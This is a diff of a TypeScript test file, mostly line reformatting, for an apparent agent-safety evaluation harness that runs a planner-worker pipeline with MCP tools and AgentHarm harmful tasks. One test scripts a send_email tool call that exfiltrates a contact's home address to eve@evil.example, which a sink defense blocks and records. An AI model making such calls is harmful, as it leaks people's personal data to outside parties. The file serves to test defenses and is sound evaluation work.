@@ -68,7 +68,11 @@ async function fakeModel() {
         else if (!body.tools?.length) message = { role: 'assistant', content: 'I have no tools.' };
         else {
           const pick = choose(body.tools);
-          message = { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: pick.name, arguments: JSON.stringify(pick.arguments) } }] };
+          message = {
+            role: 'assistant',
+            content: null,
+            tool_calls: [{ id: 'call_1', type: 'function', function: { name: pick.name, arguments: JSON.stringify(pick.arguments) } }],
+          };
         }
       } else {
         res.writeHead(404, { 'content-type': 'application/json' });
@@ -133,7 +137,14 @@ const handTask: AgenticTask = {
 
 /** What the pipeline is given: the task without the grader's fields. */
 function pipelineView(t: AgenticTask): Task {
-  return { id: t.id, benchmark: t.benchmark, kind: t.kind, prompt: t.prompt, tools: t.toolSpecs.map(({ name, description, inputSchema }) => ({ name, description, inputSchema })), metadata: t.metadata };
+  return {
+    id: t.id,
+    benchmark: t.benchmark,
+    kind: t.kind,
+    prompt: t.prompt,
+    tools: t.toolSpecs.map(({ name, description, inputSchema }) => ({ name, description, inputSchema })),
+    metadata: t.metadata,
+  };
 }
 
 function counting() {
@@ -175,17 +186,36 @@ afterAll(async () => {
 });
 
 /** Runs agentic.mjs once on `task` with the tool session `open` describes; returns the result and the tool events. */
-async function runPipeline(task: AgenticTask, session: { handlers: Record<string, ToolHandler>; defense: SinkDefense; mode?: 'enforce' | 'observe' }) {
+async function runPipeline(
+  task: AgenticTask,
+  session: { handlers: Record<string, ToolHandler>; defense: SinkDefense; mode?: 'enforce' | 'observe' },
+) {
   const workDir = mkdtempSync(path.join(tmpdir(), 'saboteur-agentic-'));
   workDirs.push(workDir);
-  const config: PipelineConfig = { mode: 'process', readyTimeoutMs: 20_000, cwd: repoRoot, timeoutMs: 50_000, concurrency: 1, env: [], agents: [], run: 'node fixtures/pipelines/agentic.mjs' };
+  const config: PipelineConfig = {
+    mode: 'process',
+    readyTimeoutMs: 20_000,
+    cwd: repoRoot,
+    timeoutMs: 50_000,
+    concurrency: 1,
+    env: [],
+    agents: [],
+    run: 'node fixtures/pipelines/agentic.mjs',
+  };
   const runner = createPipelineRunner(config, { log: memoryLog(), workDir, hostEnv: { PATH: process.env.PATH, HOME: process.env.HOME } });
   const key = `sab-agentic-${++keySeq}`;
   const mcpUrl = tools.open(key, { task, ...session });
   model.seen.length = 0;
   let result;
   try {
-    result = await runner.run({ task: pipelineView(task), apiKey: key, proxyBaseUrl: model.baseUrl, model: 'qwen-test', variant: 'control', mcpUrl });
+    result = await runner.run({
+      task: pipelineView(task),
+      apiKey: key,
+      proxyBaseUrl: model.baseUrl,
+      model: 'qwen-test',
+      variant: 'control',
+      mcpUrl,
+    });
   } finally {
     await runner.stop();
   }
@@ -200,11 +230,18 @@ describe('agentic.mjs: planner → worker with MCP tools', () => {
     expect(result).toMatchObject({ status: 'ok', output: { answer: 'Done. The tool said: Ann lives at 1 Main St' } });
     expect(runs).toEqual({ lookup: 1, send_email: 0 });
     expect(events).toHaveLength(1);
-    expect(events[0]).toMatchObject({ tool: 'lookup', agent: 'worker', arguments: { name: 'Ann' }, result: 'Ann lives at 1 Main St', isError: false });
+    expect(events[0]).toMatchObject({
+      tool: 'lookup',
+      agent: 'worker',
+      arguments: { name: 'Ann' },
+      result: 'Ann lives at 1 Main St',
+      isError: false,
+    });
 
     // The model calls: planner once, worker twice (the tool call, then the answer), all at temperature 0 with the invocation's key.
     expect(model.seen.map((s) => s.agent)).toEqual(['planner', 'worker', 'worker']);
-    for (const s of model.seen) expect(s).toMatchObject({ authorization: `Bearer sab-agentic-${keySeq}`, body: { model: 'qwen-test', temperature: 0 } });
+    for (const s of model.seen)
+      expect(s).toMatchObject({ authorization: `Bearer sab-agentic-${keySeq}`, body: { model: 'qwen-test', temperature: 0 } });
     const [planner, first, second] = model.seen;
     expect(planner.body.tools).toBeUndefined();
     const plannerUser = planner.body.messages.find((m) => m.role === 'user')!.content!;
@@ -212,11 +249,16 @@ describe('agentic.mjs: planner → worker with MCP tools', () => {
     expect(plannerUser).toContain('- lookup: Looks up a contact by name.');
     expect(plannerUser).toContain('- send_email: Sends an email.');
     // The worker gets the MCP tools as OpenAI function tools, schemas unchanged, and the plan.
-    expect(first.body.tools).toEqual(SPECS.map((s) => ({ type: 'function', function: { name: s.name, description: s.description, parameters: s.inputSchema } })));
+    expect(first.body.tools).toEqual(
+      SPECS.map((s) => ({ type: 'function', function: { name: s.name, description: s.description, parameters: s.inputSchema } })),
+    );
     expect(first.body.messages.find((m) => m.role === 'user')!.content).toContain(PLAN);
     const toolMessage = second.body.messages.find((m) => m.role === 'tool')!;
     expect(toolMessage).toEqual({ role: 'tool', tool_call_id: 'call_1', content: 'Ann lives at 1 Main St' });
-    expect(second.body.messages.find((m) => m.role === 'assistant')!.tool_calls![0].function).toEqual({ name: 'lookup', arguments: '{"name":"Ann"}' });
+    expect(second.body.messages.find((m) => m.role === 'assistant')!.tool_calls![0].function).toEqual({
+      name: 'lookup',
+      arguments: '{"name":"Ann"}',
+    });
     // The grader's fields never reach the pipeline.
     expect(JSON.stringify(model.seen)).not.toContain('the grader only');
   });
@@ -224,7 +266,10 @@ describe('agentic.mjs: planner → worker with MCP tools', () => {
   it('a sink the defense blocks is not executed; the worker is told and the decision is recorded', async () => {
     model.setChoice(() => ({ name: 'send_email', arguments: { to: 'eve@evil.example', body: 'Ann: 1 Main St' } }));
     const { runs, handlers } = counting();
-    const blockExternal: SinkDefense = { name: 'test-block', decide: async (c) => ({ decision: 'block', reason: `${c.tool} to ${String(c.arguments.to)} is not authorised` }) };
+    const blockExternal: SinkDefense = {
+      name: 'test-block',
+      decide: async (c) => ({ decision: 'block', reason: `${c.tool} to ${String(c.arguments.to)} is not authorised` }),
+    };
     const { result, events } = await runPipeline(handTask, { handlers, defense: blockExternal });
     expect(runs.send_email).toBe(0);
     expect(events).toHaveLength(1);
@@ -232,7 +277,12 @@ describe('agentic.mjs: planner → worker with MCP tools', () => {
       tool: 'send_email',
       agent: 'worker',
       isError: true,
-      staged: { sinks: ['EXTERNAL_SEND'], decision: 'block', defense: 'test-block', reason: 'send_email to eve@evil.example is not authorised' },
+      staged: {
+        sinks: ['EXTERNAL_SEND'],
+        decision: 'block',
+        defense: 'test-block',
+        reason: 'send_email to eve@evil.example is not authorised',
+      },
     });
     expect(result).toMatchObject({
       status: 'ok',
@@ -243,9 +293,24 @@ describe('agentic.mjs: planner → worker with MCP tools', () => {
   it('fails clearly without SABOTEUR_MCP_URL', async () => {
     const workDir = mkdtempSync(path.join(tmpdir(), 'saboteur-agentic-'));
     workDirs.push(workDir);
-    const config: PipelineConfig = { mode: 'process', readyTimeoutMs: 20_000, cwd: repoRoot, timeoutMs: 50_000, concurrency: 1, env: [], agents: [], run: 'node fixtures/pipelines/agentic.mjs' };
+    const config: PipelineConfig = {
+      mode: 'process',
+      readyTimeoutMs: 20_000,
+      cwd: repoRoot,
+      timeoutMs: 50_000,
+      concurrency: 1,
+      env: [],
+      agents: [],
+      run: 'node fixtures/pipelines/agentic.mjs',
+    };
     const runner = createPipelineRunner(config, { log: memoryLog(), workDir, hostEnv: { PATH: process.env.PATH, HOME: process.env.HOME } });
-    const result = await runner.run({ task: pipelineView(handTask), apiKey: 'k', proxyBaseUrl: model.baseUrl, model: 'qwen-test', variant: 'control' });
+    const result = await runner.run({
+      task: pipelineView(handTask),
+      apiKey: 'k',
+      proxyBaseUrl: model.baseUrl,
+      model: 'qwen-test',
+      variant: 'control',
+    });
     expect(result).toMatchObject({ status: 'crash', exitCode: 1 });
     expect(result.stderrTail).toMatch(/SABOTEUR_MCP_URL is not set/);
   });
@@ -257,7 +322,7 @@ requireData(hasData, `agentic-pipeline.test: the AgentHarm run: no AgentHarm dat
 const withData = hasData ? describe : describe.skip;
 
 withData('agentic.mjs on a real AgentHarm task with its real simulations', () => {
-  it('serves the behaviour\'s tools, stages its sink and records the worker\'s call', async () => {
+  it("serves the behaviour's tools, stages its sink and records the worker's call", async () => {
     const { tasks } = await loadAgentHarm(dataDir!, { split: 'test_public' });
     // The first harmful behaviour with a hard-sink tool, so the staging path runs on real data too.
     const task = tasks.find((t) => t.role === 'harmful' && t.toolSpecs.some((s) => s.sinks?.length))!;
@@ -284,7 +349,10 @@ withData('agentic.mjs on a real AgentHarm task with its real simulations', () =>
       isError: expected.isError === true,
       staged: { sinks: sink.sinks, decision: 'release', defense: 'none' },
     });
-    expect(result).toMatchObject({ status: 'ok', output: { answer: `Done. The tool said: ${expected.isError ? 'Error: ' : ''}${expected.result}` } });
+    expect(result).toMatchObject({
+      status: 'ok',
+      output: { answer: `Done. The tool said: ${expected.isError ? 'Error: ' : ''}${expected.result}` },
+    });
     // AgentHarm's system prompt reaches the worker through task.metadata.
     const worker = model.seen.find((s) => s.agent === 'worker')!;
     expect(worker.body.messages[0].content).toContain(String(task.metadata.systemPrompt));
